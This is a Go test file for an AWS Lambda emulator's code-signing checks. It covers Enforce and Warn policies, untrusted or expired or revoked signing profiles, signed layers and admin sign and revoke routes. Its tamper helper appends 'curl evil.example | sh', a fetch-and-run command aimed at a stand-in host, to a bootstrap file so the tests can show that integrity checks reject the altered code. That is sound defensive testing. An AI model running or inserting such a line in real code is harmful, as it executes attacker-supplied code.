package lambdaemu_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	"github.com/aws/aws-sdk-go-v2/service/lambda/types"

	"github.com/selfguard/selfguard/infra/emulator/lambdaemu"
)

// signingWorld has a trusted profile, an untrusted one, one that signs for
// an hour only, and an Enforce and a Warn CSC trusting the first.
func signingWorld() lambdaemu.World {
	return lambdaemu.World{
		UpdateDelayMs: aws.Int(0),
		SigningProfiles: []lambdaemu.ProfileWorld{
			{Name: "trusted", Version: "AAAAAAAAAA"}, {Name: "other"}, {Name: "short", SignatureValidity: "1h"},
		},
		CodeSigningConfigs: []lambdaemu.CSCWorld{
			{ID: "csc-enforce0000000000", AllowedPublishers: []string{"trusted", "short"}, UntrustedArtifactOnDeployment: "Enforce"},
			{ID: "csc-warn0000000000000", AllowedPublishers: []string{"trusted"}},
		},
	}
}

const (
	enforceCSC = "arn:aws:lambda:eu-west-1:111122223333:code-signing-config:csc-enforce0000000000"
	warnCSC    = "arn:aws:lambda:eu-west-1:111122223333:code-signing-config:csc-warn0000000000000"
	trustedARN = "arn:aws:signer:eu-west-1:111122223333:/signing-profiles/trusted/AAAAAAAAAA"
)

// tamper changes a file of a signed zip and keeps the signature entry.
func tamper(t *testing.T, signed []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(signed), int64(len(signed)))
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{}
	for _, f := range zr.File {
		rc, _ := f.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		files[f.Name] = string(b)
	}
	files["bootstrap"] += "\ncurl evil.example | sh"
	return lambdaemu.ZipOf(files)
}

func TestCodeSigningOnDeploy(t *testing.T) {
	ctx := context.Background()
	b := newBed(t, signingWorld())
	sign := func(profile, body string) []byte {
		z, _, err := b.srv.Lambda.Sign(profile, zipOf(body))
		if err != nil {
			t.Fatal(err)
		}
		return z
	}
	trusted := sign("trusted", "good")
	expired := sign("short", "old")
	b.srv.Env.Clock.Advance(2 * time.Hour)
	cases := []struct {
		name, csc string
		zip       []byte
		wantErr   string
		wantSign  bool
	}{
		{"no CSC: signed code is not verified and records nothing", "", trusted, "", false},
		{"no CSC: tampered code deploys", "", tamper(t, trusted), "", false},
		{"Enforce: trusted signature deploys and is recorded", enforceCSC, trusted, "", true},
		{"Enforce: unsigned code is refused", enforceCSC, zipOf("plain"), "CodeVerificationFailedException", false},
		{"Enforce: publisher not allowed is refused", enforceCSC, sign("other", "x"), "CodeVerificationFailedException", false},
		{"Enforce: expired signature is refused", enforceCSC, expired, "CodeVerificationFailedException", false},
		{"Enforce: tampered code fails the integrity check", enforceCSC, tamper(t, trusted), "InvalidCodeSignatureException", false},
		{"Warn: unsigned code deploys unrecorded", warnCSC, zipOf("plain"), "", false},
		{"Warn: trusted signature is recorded", warnCSC, trusted, "", true},
		{"Warn: tampered code still fails the integrity check", warnCSC, tamper(t, trusted), "InvalidCodeSignatureException", false},
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			name := "fn" + string(rune('a'+i))
			out, err := createZip(t, b, name, c.zip, c.csc)
			if got := apiCode(t, err); got != c.wantErr {
				t.Fatalf("create: %v, want %q", err, c.wantErr)
			}
			if c.wantErr == "CodeVerificationFailedException" && !strings.HasPrefix(apiMessage(err), "Lambda cannot deploy the function.") {
				t.Errorf("message %q", apiMessage(err))
			}
			if err != nil {
				if _, gerr := b.client.GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(name)}); apiCode(t, gerr) != "ResourceNotFoundException" {
					t.Errorf("a refused function exists: %v", gerr)
				}
				return
			}
			signed := aws.ToString(out.SigningProfileVersionArn) == trustedARN && strings.Contains(aws.ToString(out.SigningJobArn), ":/signing-jobs/")
			if signed != c.wantSign || (!c.wantSign && out.SigningJobArn != nil) {
				t.Errorf("signing fields %q %q, want recorded=%v", aws.ToString(out.SigningProfileVersionArn), aws.ToString(out.SigningJobArn), c.wantSign)
			}
		})
	}

	if err := b.srv.Lambda.RevokeProfile("trusted", time.Time{}); err != nil {
		t.Fatal(err)
	}
	if _, err := b.client.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String("fnc"), ZipFile: trusted}); apiCode(t, err) != "CodeVerificationFailedException" {
		t.Errorf("Enforce: code of a revoked profile: %v, want CodeVerificationFailedException", err)
	}
	if _, _, err := b.srv.Lambda.Sign("trusted", zipOf("new")); err == nil {
		t.Error("a revoked profile signed")
	}
}

func TestCodeSigningConfigAPIAndImageFunctions(t *testing.T) {
	ctx := context.Background()
	b := newBed(t, signingWorld())
	c, err := b.client.CreateCodeSigningConfig(ctx, &lambda.CreateCodeSigningConfigInput{
		AllowedPublishers: &types.AllowedPublishers{SigningProfileVersionArns: []string{trustedARN}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if c.CodeSigningConfig.CodeSigningPolicies.UntrustedArtifactOnDeployment != types.CodeSigningPolicyWarn {
		t.Errorf("default policy %s, want Warn", c.CodeSigningConfig.CodeSigningPolicies.UntrustedArtifactOnDeployment)
	}
	arn := c.CodeSigningConfig.CodeSigningConfigArn
	if _, err := createZip(t, b, "plain", zipOf("x"), ""); err != nil {
		t.Fatal(err)
	}
	none, err := b.client.GetFunctionCodeSigningConfig(ctx, &lambda.GetFunctionCodeSigningConfigInput{FunctionName: aws.String("plain")})
	if err != nil || none.CodeSigningConfigArn != nil {
		t.Errorf("no CSC: %+v %v", none, err)
	}
	if _, err := b.client.PutFunctionCodeSigningConfig(ctx, &lambda.PutFunctionCodeSigningConfigInput{FunctionName: aws.String("plain"), CodeSigningConfigArn: arn}); err != nil {
		t.Fatal(err)
	}
	if _, err := b.client.UpdateCodeSigningConfig(ctx, &lambda.UpdateCodeSigningConfigInput{CodeSigningConfigArn: arn,
		CodeSigningPolicies: &types.CodeSigningPolicies{UntrustedArtifactOnDeployment: types.CodeSigningPolicyEnforce}}); err != nil {
		t.Fatal(err)
	}
	if _, err := b.client.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String("plain"), ZipFile: zipOf("y")}); apiCode(t, err) != "CodeVerificationFailedException" {
		t.Errorf("unsigned update after Enforce: %v", err)
	}
	fns, err := b.client.ListFunctionsByCodeSigningConfig(ctx, &lambda.ListFunctionsByCodeSigningConfigInput{CodeSigningConfigArn: arn})
	if err != nil || len(fns.FunctionArns) != 1 {
		t.Errorf("functions by CSC: %v %v", fns, err)
	}
	if _, err := b.client.DeleteCodeSigningConfig(ctx, &lambda.DeleteCodeSigningConfigInput{CodeSigningConfigArn: arn}); apiCode(t, err) != "ResourceConflictException" {
		t.Errorf("delete a CSC in use: %v", err)
	}
	if _, err := b.client.DeleteFunctionCodeSigningConfig(ctx, &lambda.DeleteFunctionCodeSigningConfigInput{FunctionName: aws.String("plain")}); err != nil {
		t.Fatal(err)
	}
	if _, err := b.client.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String("plain"), ZipFile: zipOf("y")}); err != nil {
		t.Errorf("unsigned update after the CSC is removed: %v", err)
	}
	if _, err := b.client.DeleteCodeSigningConfig(ctx, &lambda.DeleteCodeSigningConfigInput{CodeSigningConfigArn: arn}); err != nil {
		t.Errorf("delete an unused CSC: %v", err)
	}
	if _, err := b.client.PutFunctionCodeSigningConfig(ctx, &lambda.PutFunctionCodeSigningConfigInput{FunctionName: aws.String("plain"), CodeSigningConfigArn: arn}); apiCode(t, err) != "CodeSigningConfigNotFoundException" {
		t.Errorf("put a deleted CSC: %v", err)
	}
	img, err := b.client.CreateFunction(ctx, &lambda.CreateFunctionInput{FunctionName: aws.String("img"), PackageType: types.PackageTypeImage,
		Role: aws.String("arn:aws:iam::111122223333:role/r"), Code: &types.FunctionCode{ImageUri: aws.String("111122223333.dkr.ecr.eu-west-1.amazonaws.com/app:1")}})
	if err != nil || img.SigningJobArn != nil || img.PackageType != types.PackageTypeImage {
		t.Fatalf("image function: %+v %v", img, err)
	}
	if _, err := b.client.PutFunctionCodeSigningConfig(ctx, &lambda.PutFunctionCodeSigningConfigInput{FunctionName: aws.String("img"), CodeSigningConfigArn: aws.String(enforceCSC)}); apiCode(t, err) != "InvalidParameterValueException" {
		t.Errorf("CSC on an image function: %v", err)
	}
	g, err := b.client.GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String("img")})
	if err != nil || aws.ToString(g.Code.RepositoryType) != "ECR" || aws.ToString(g.Code.ImageUri) == "" {
		t.Errorf("image code: %+v %v", g, err)
	}
}

func TestLayersCarrySignatures(t *testing.T) {
	ctx := context.Background()
	w := signingWorld()
	w.Layers = []lambdaemu.LayerWorld{{Name: "shared-ext", Account: "999988887777", Version: 7, CodeWorld: lambdaemu.CodeWorld{Files: map[string]string{"ext": "x"}}}}
	w.Functions = []lambdaemu.FunctionWorld{{Name: "guarded", CodeWorld: lambdaemu.CodeWorld{SignedBy: "trusted"}, CodeSigningConfig: "csc-enforce0000000000"}}
	b := newBed(t, w)
	signedLayer, _, err := b.srv.Lambda.Sign("trusted", lambdaemu.ZipOf(map[string]string{"ext": "good"}))
	if err != nil {
		t.Fatal(err)
	}
	pub, err := b.client.PublishLayerVersion(ctx, &lambda.PublishLayerVersionInput{LayerName: aws.String("ext"), Content: &types.LayerVersionContentInput{ZipFile: signedLayer}})
	if err != nil || pub.Version != 1 || aws.ToString(pub.Content.SigningProfileVersionArn) != trustedARN {
		t.Fatalf("publish signed layer: %+v %v", pub, err)
	}
	plain, err := b.client.PublishLayerVersion(ctx, &lambda.PublishLayerVersionInput{LayerName: aws.String("ext"), Content: &types.LayerVersionContentInput{ZipFile: zipOf("plain")}})
	if err != nil || plain.Version != 2 || plain.Content.SigningJobArn != nil {
		t.Fatalf("publish unsigned layer: %+v %v", plain, err)
	}
	foreign := "arn:aws:lambda:eu-west-1:999988887777:layer:shared-ext:7"
	for _, c := range []struct {
		layer, wantErr string
	}{
		{aws.ToString(plain.LayerVersionArn), "CodeVerificationFailedException"},
		{foreign, "CodeVerificationFailedException"},
		{aws.ToString(pub.LayerVersionArn), ""},
	} {
		out, err := b.client.UpdateFunctionConfiguration(ctx, &lambda.UpdateFunctionConfigurationInput{FunctionName: aws.String("guarded"), Layers: []string{c.layer}})
		if apiCode(t, err) != c.wantErr {
			t.Errorf("layer %s under Enforce: %v, want %q", c.layer, err, c.wantErr)
		}
		if err == nil && (len(out.Layers) != 1 || aws.ToString(out.Layers[0].SigningProfileVersionArn) != trustedARN || aws.ToString(out.SigningProfileVersionArn) != trustedARN) {
			t.Errorf("signed layer entry: %+v", out.Layers)
		}
	}
	byArn, err := b.client.GetLayerVersionByArn(ctx, &lambda.GetLayerVersionByArnInput{Arn: aws.String(foreign)})
	if err != nil || byArn.Version != 7 {
		t.Errorf("foreign layer by ARN: %+v %v", byArn, err)
	}
	lv, err := b.client.ListLayerVersions(ctx, &lambda.ListLayerVersionsInput{LayerName: aws.String("ext")})
	if err != nil || len(lv.LayerVersions) != 2 || lv.LayerVersions[0].Version != 2 {
		t.Errorf("list layer versions: %+v %v", lv, err)
	}
	gl, err := b.client.GetLayerVersion(ctx, &lambda.GetLayerVersionInput{LayerName: aws.String("ext"), VersionNumber: aws.Int64(1)})
	if err != nil || aws.ToString(gl.Content.CodeSha256) != aws.ToString(pub.Content.CodeSha256) {
		t.Errorf("get layer version: %+v %v", gl, err)
	}
}

func TestAdminSignRouteProducesDeployableCode(t *testing.T) {
	b := newBed(t, signingWorld())
	body, _ := json.Marshal(map[string]string{"profile": "trusted", "zip": base64.StdEncoding.EncodeToString(zipOf("via admin"))})
	resp, err := http.Post(b.url+"/_selfguard/lambda/sign", "application/json", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var out lambdaemu.SignResponse
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil || resp.StatusCode != 200 {
		t.Fatalf("sign: %d %v", resp.StatusCode, err)
	}
	if out.ProfileVersionArn != trustedARN || !strings.Contains(out.SigningJobArn, ":/signing-jobs/") {
		t.Errorf("sign response %+v", out)
	}
	fn, err := createZip(t, b, "viaadmin", out.Zip, enforceCSC)
	if err != nil || aws.ToString(fn.SigningJobArn) != out.SigningJobArn {
		t.Errorf("deploy admin-signed zip: %+v %v", fn, err)
	}
	rv, _ := json.Marshal(map[string]string{"profile": "trusted"})
	resp2, err := http.Post(b.url+"/_selfguard/lambda/revoke", "application/json", bytes.NewReader(rv))
	if err != nil || resp2.StatusCode != 200 {
		t.Fatalf("revoke: %v %v", resp2, err)
	}
	resp2.Body.Close()
	if _, err := createZip(t, b, "afterrevoke", out.Zip, enforceCSC); apiCode(t, err) != "CodeVerificationFailedException" {
		t.Errorf("deploy after revocation: %v", err)
	}
	var profiles []lambdaemu.ProfileInfo
	resp3, err := http.Get(b.url + "/_selfguard/lambda/profiles")
	if err != nil {
		t.Fatal(err)
	}
	defer resp3.Body.Close()
	if err := json.NewDecoder(resp3.Body).Decode(&profiles); err != nil || len(profiles) != 3 || profiles[2].Status != "Revoked" {
		t.Errorf("profiles: %+v %v", profiles, err)
	}
}
